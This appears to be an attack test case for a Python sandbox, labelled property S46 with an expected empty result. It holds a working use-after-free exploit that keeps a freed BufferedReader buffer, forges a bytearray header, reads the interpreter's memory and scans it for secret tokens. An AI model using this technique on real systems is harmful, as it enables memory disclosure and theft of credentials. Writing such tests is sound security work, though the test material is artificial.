# attack: reads all memory of its own interpreter through a view of freed memory, and looks for secrets in it
# property: S46
# timeout_ms: 10000
# stdout: bytearray
# expect: value []
import io
import re
import struct

kept = []


class Raw(io.RawIOBase):
    def readinto(self, buffer):
        kept.append(buffer)
        return len(buffer)

    def readable(self):
        return True


reader = io.BufferedReader(Raw(), 1 << 12)
reader.read(1)
del reader
spray = [[None] * 512 for _ in range(64)]
words = kept[0].cast("B").cast("P")
found = next(at for at in range(len(words) - 1) if words[at] == words[at + 1] == id(None))
end = max(map(id, spray)) & ~0xFFFF
fake = struct.pack("PPPPPPP", 1 << 28, id(bytearray), end - 64, end - 64, 0, 64, 0)
words[found] = id(fake) + bytes.__basicsize__ - 1
memory = next(part[index] for part in spray for index in range(512) if part[index] is not None)
print(type(memory).__name__, len(memory) > 1 << 20)
# Written so that a pattern does not find itself.
secrets = [rb"can[a]ry-[0-9a-f]{4}", rb"PROBE_[T]OKEN=", rb"LIMBECK_[A]TTACK_"]
return [repr(bytes(memory[hit.start() : hit.start() + 40])) for secret in secrets for hit in re.finditer(secret, memory)]
